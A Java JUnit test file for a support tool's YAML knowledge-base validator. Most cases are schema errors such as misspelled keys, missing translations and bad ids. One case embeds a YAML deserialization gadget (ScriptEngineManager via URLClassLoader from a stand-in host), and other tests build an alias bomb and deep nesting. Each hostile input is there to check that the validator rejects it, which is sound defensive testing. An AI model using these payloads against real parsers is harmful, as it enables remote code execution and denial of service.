package okpay.support.kb;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import okpay.support.cli.CliRunner;
import okpay.support.testing.KbValidation;
import okpay.support.testing.Marker;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** A table of broken knowledge-base files, each with the exact problem {@code kb validate} must report. */
public class BrokenKnowledgeBaseTest {
    @TempDir
    Path dir;

    private static final String MINIMAL = KbValidation.fixture("minimal.yaml");

    /** name, text to replace in minimal.yaml, replacement, message expected at the marker ‸ of either. */
    public static Stream<Arguments> brokenFiles() {
        return Stream.of(
                Arguments.of("unknown key with suggestion", "    urgency: high", "    ‸urgncy: high",
                        "unknown key 'urgncy' in topic (did you mean 'urgency'?)"),
                Arguments.of("unknown top-level section", "safety_tips:", "‸safety_tip:",
                        "unknown key 'safety_tip' in knowledge base (did you mean 'safety_tips'?)"),
                Arguments.of("missing translation", "title: {zh: 钱没到账, en: Money has not arrived}", "title: ‸{zh: 钱没到账}",
                        "faq 'funds-not-received' title is missing the English (en) translation"),
                Arguments.of("empty translation", "answer: {zh: 先查看交易状态。, en: Check the transaction status first.}",
                        "answer: {zh: ‸'', en: Check the transaction status first.}",
                        "faq 'funds-not-received' answer.zh must be a non-empty string"),
                Arguments.of("dangling related id", "related: []", "related: [‸funds-not-recieved]",
                        "faq 'funds-not-received' related refers to unknown faq 'funds-not-recieved' (did you mean 'funds-not-received'?)"),
                Arguments.of("dangling topic of a faq", "    topic: funds", "    topic: ‸money",
                        "faq 'funds-not-received' topic refers to unknown topic 'money'"),
                Arguments.of("unknown channel in a topic", "channels: [hotline, website, email, social]",
                        "channels: [hotline, website, ‸mail, social]",
                        "topic 'funds' channels refers to unknown channel 'mail' (did you mean 'email'?)"),
                // the copy goes in front of the original topic, so it is first defined where the original was
                Arguments.of("duplicate id", "  - id: funds\n", "  - id: funds\n    name: {zh: 资金, en: Money}\n    description: {zh: a, en: a}\n"
                        + "    urgency: low\n    advice: {zh: a, en: a}\n    channels: [website]\n    faqs: []\n  - id: ‸funds\n",
                        "duplicate topic id 'funds' (first defined at line " + Marker.find(MINIMAL, "‸  - id: funds\n").line() + ")"),
                Arguments.of("duplicate key", "    tags: [funds]\n", "    tags: [funds]\n    ‸tags: [money]\n",
                        "duplicate key 'tags' (first defined at line " + Marker.find(MINIMAL, "‸    tags: [funds]").line() + ")"),
                Arguments.of("bad id", "  - id: funds-not-received", "  - id: ‸Funds Not Received",
                        "faq id 'Funds Not Received' must be lowercase letters and digits joined by '-' (like 'forgot-password')"),
                // the entry's other problems name it by its kind, never as faq 'null'
                Arguments.of("entry without a valid id", "  - id: funds-not-received\n    title: {zh: 钱没到账, en: Money has not arrived}",
                        "  - id: Funds Not Received\n    title: ‸{zh: 钱没到账}",
                        "faq title is missing the English (en) translation"),
                Arguments.of("bad urgency", "urgency: high", "urgency: ‸soon",
                        "topic 'funds' urgency 'soon' is not one of low, normal, high, critical"),
                Arguments.of("bad region code", "    - code: DE", "    - code: ‸Germany",
                        "region code 'Germany' must be two capital letters (ISO 3166), like US"),
                Arguments.of("hours without number", "      name: {zh: 德国, en: Germany}",
                        "      name: {zh: 德国, en: Germany}\n      hours: ‸{zh: 全天, en: all day}",
                        "region 'DE' has hours but no number"),
                Arguments.of("unsupported version", "version: 1", "version: ‸7",
                        "version 7 is not supported; this tool reads version 1"),
                Arguments.of("global tag is refused, never constructed", "version: 1",
                        "version: 1\nexploit: ‸!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]",
                        "tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not allowed; a knowledge base holds only plain strings, numbers, lists and mappings"),
                // the parser notices the open list only at the ':' of the next line
                Arguments.of("malformed YAML", "    tags: [funds]\n    topic: funds", "    tags: [funds\n    topic‸: funds",
                        "malformed YAML: while parsing a flow sequence: expected ',' or ']', but got :"),
                Arguments.of("sequence where a mapping belongs", "product:\n  name: {zh: 测试钱包, en: Test Wallet}\n  official_domains: [okpay.example]\n  notice: {zh: 示例数据。, en: Sample data.}\n",
                        "product: ‸[a, b]\n", "product must be a mapping with name, notice, official_domains"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("brokenFiles")
    void reportsTheProblemAtItsPosition(String name, String target, String replacement, String message) {
        KbValidation.assertReported(dir, MINIMAL, target, replacement, message);
    }

    @Test
    void missingFieldIsReportedAtTheStartOfItsMapping() {
        KbValidation.assertReportedElsewhere(dir, MINIMAL, "    advice: {zh: 尽快联系。, en: Contact support soon.}\n", "",
                "  - ‸id: funds\n", "topic is missing required field 'advice'");
    }

    @Test
    void minimalFileIsValid() throws IOException {
        Path file = dir.resolve("ok.yaml");
        Files.writeString(file, MINIMAL);
        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());
        assertEquals(0, result.exitCode(), result.toString());
        assertTrue(result.out().startsWith(file + ": valid"), result.out());
    }

    @Test
    void reportsEveryProblemAtOnceInFileOrder() throws IOException {
        String broken = MINIMAL.replace("urgency: high", "urgency: soon").replace("related: []", "related: [nope]")
                .replace("safety_tips:", "safety_tipz:").replace("    how: {zh: 写信。, en: Write.}\n", "");
        Path file = dir.resolve("many.yaml");
        Files.writeString(file, broken);

        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());

        assertEquals(4, result.exitCode());
        java.util.List<String> problems = result.out().lines().filter(l -> l.matches(java.util.regex.Pattern.quote(file.toString()) + ":\\d+:\\d+: .*")).toList();
        assertEquals(5, problems.size(), result.toString());
        // a missing section is reported at the start of the top-level mapping
        assertEquals(file + ":" + Marker.find(broken, "‸version: 1") + ": knowledge base is missing required field 'safety_tips'",
                problems.get(0));
        assertEquals(file + ":" + Marker.find(broken, "‸safety_tipz:")
                + ": unknown key 'safety_tipz' in knowledge base (did you mean 'safety_tips'?)", problems.get(1));
        assertTrue(problems.stream().anyMatch(p -> p.contains("is missing required field 'how'")), problems.toString());
        assertTrue(problems.stream().anyMatch(p -> p.contains("urgency 'soon'")), problems.toString());
        assertTrue(problems.stream().anyMatch(p -> p.contains("unknown faq 'nope'")), problems.toString());
        assertTrue(result.out().strip().endsWith(file + ": 5 problems; fix them and run 'okpay-support kb validate' again"), result.out());
    }

    @Test
    void oneProblemIsCountedInTheSingular() throws IOException {
        Path file = dir.resolve("one.yaml");
        Files.writeString(file, MINIMAL.replace("urgency: high", "urgency: soon"));

        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());

        assertEquals(4, result.exitCode(), result.toString());
        assertTrue(result.out().strip().endsWith(file + ": 1 problem; fix it and run 'okpay-support kb validate' again"), result.out());
    }

    @Test
    void aliasBombIsRefused() throws IOException {
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char prev = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(prev).append(", *").append(prev).append(", *")
                    .append(prev).append(", *").append(prev).append("]\n");
        }
        Path file = dir.resolve("bomb.yaml");
        Files.writeString(file, bomb.toString());

        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());

        assertEquals(4, result.exitCode());
        // at the 21st alias: b to f hold four each, so the first of g's
        assertTrue(result.out().contains(file + ":7:8: more than 20 aliases to lists or mappings, the limit for a knowledge base"),
                result.toString());
    }

    @Test
    void deepNestingIsRefused() throws IOException {
        Path file = dir.resolve("deep.yaml");
        Files.writeString(file, "x: " + "[".repeat(200) + "]".repeat(200) + "\n");
        CliRunner.Result result = CliRunner.runEn("kb", "validate", file.toString());
        assertEquals(4, result.exitCode());
        // the file's mapping is level 1, so the 24th list is level 25: reported where it opens
        assertTrue(result.out().contains(file + ":1:27: nesting deeper than 24 levels, the limit for a knowledge base"), result.toString());
    }

    @Test
    void oversizedFileIsRefusedBeforeParsingWithTheSettingThatRaisesTheLimit() throws IOException {
        Path file = dir.resolve("big.yaml");
        Files.writeString(file, "version: 1\n" + "#".repeat(3000) + "\n");
        CliRunner.Result result = CliRunner.runEn("--kb-max-size", "2K", "kb", "validate", file.toString());
        assertEquals(4, result.exitCode(), result.toString());
        assertTrue(result.err().contains("error: knowledge base file '" + file + "' is larger than 2 KiB"), result.toString());
        assertTrue(result.err().contains("hint: raise the limit with --kb-max-size SIZE or OKPAY_SUPPORT_KB_MAX_SIZE"), result.toString());
        CliRunner.Result fromEnv = new CliRunner().env("OKPAY_SUPPORT_KB_MAX_SIZE", "1k").run("kb", "validate", file.toString());
        assertTrue(fromEnv.err().contains("is larger than 1 KiB"), fromEnv.toString());
        CliRunner.Result raised = CliRunner.runEn("--kb-max-size", "4K", "kb", "validate", file.toString());
        assertFalse(raised.err().contains("larger than"), raised.toString()); // read, and reported for what it lacks
        assertTrue(SafeYaml.KNOWLEDGE_BASE.maxBytes() >= 30 * 1000 * 1000, "the default takes a 30 MB knowledge base");
    }

    @Test
    void aSizeLimitThatIsNoSizeIsAUsageErrorNamingTheSetting() {
        CliRunner.Result result = CliRunner.runEn("--kb-max-size", "lots", "kb", "validate");
        assertEquals(2, result.exitCode(), result.toString());
        assertTrue(result.err().contains("error: --kb-max-size 'lots' is not a size"), result.toString());
        CliRunner.Result fromEnv = new CliRunner().env("OKPAY_SUPPORT_KB_MAX_SIZE", "-5").run("faq", "list");
        assertTrue(fromEnv.err().contains("error: OKPAY_SUPPORT_KB_MAX_SIZE '-5' is not a size"), fromEnv.toString());
    }

    @Test
    void nonUtf8AndEmptyFilesAreReported() throws IOException {
        // bytes that are not UTF-8 are reported where they are; an empty file at its start
        Path latin1 = dir.resolve("latin1.yaml");
        Marker.Marked notUtf8 = Marker.strip("name: caf‸\u00e9");
        Files.write(latin1, notUtf8.text().getBytes(StandardCharsets.ISO_8859_1));
        Path empty = dir.resolve("empty.yaml");
        Marker.Marked comment = Marker.strip("‸# nothing here\n");
        Files.writeString(empty, comment.text());

        assertTrue(CliRunner.runEn("kb", "validate", latin1.toString()).out()
                .contains(latin1 + ":" + notUtf8.position() + ": file is not valid UTF-8 here (byte 9 is 0xe9); save it as UTF-8"));
        assertTrue(CliRunner.runEn("kb", "validate", empty.toString()).out().contains(empty + ":" + comment.position() + ": file is empty"));
    }

    @Test
    void missingFileIsAOneLineErrorOnStderr() {
        CliRunner.Result result = CliRunner.runEn("--kb", dir.resolve("nope.yaml").toString(), "faq", "list");
        assertEquals(4, result.exitCode());
        assertEquals("", result.out());
        assertTrue(result.err().startsWith("error: knowledge base file '" + dir.resolve("nope.yaml") + "' does not exist\n"), result.err());
        assertFalse(result.err().contains("\tat "), "no stack trace");
    }

    @Test
    void invalidFileGivenToAnyCommandListsEveryProblem() throws IOException {
        Path file = dir.resolve("bad.yaml");
        String broken = MINIMAL.replace("urgency: high", "urgency: soon").replace("related: []", "related: [nope]");
        Files.writeString(file, broken);
        CliRunner.Result result = CliRunner.runEn("faq", "list", "--kb", file.toString());
        assertEquals(4, result.exitCode());
        assertEquals("", result.out());
        assertTrue(result.err().startsWith("error: knowledge base '" + file + "' has 2 problems:\n"
                + file + ":" + Marker.find(broken, "urgency: ‸soon") + ": "), result.err());
        assertTrue(result.err().contains(file + ":" + Marker.find(broken, "related: [‸nope]")
                + ": faq 'funds-not-received' related refers to unknown faq 'nope'"), result.err());
    }

    @Test
    void environmentVariableNamesTheKnowledgeBase() throws IOException {
        Path file = dir.resolve("env.yaml");
        Files.writeString(file, MINIMAL);
        CliRunner.Result result = new CliRunner().env("OKPAY_SUPPORT_KB", file.toString()).run("faq", "list", "--format", "json");
        assertEquals(0, result.exitCode(), result.toString());
        assertTrue(result.out().contains("\"funds-not-received\""));
        assertEquals(1, result.out().split("\"id\"").length - 1, "the minimal file has one entry");
    }
}
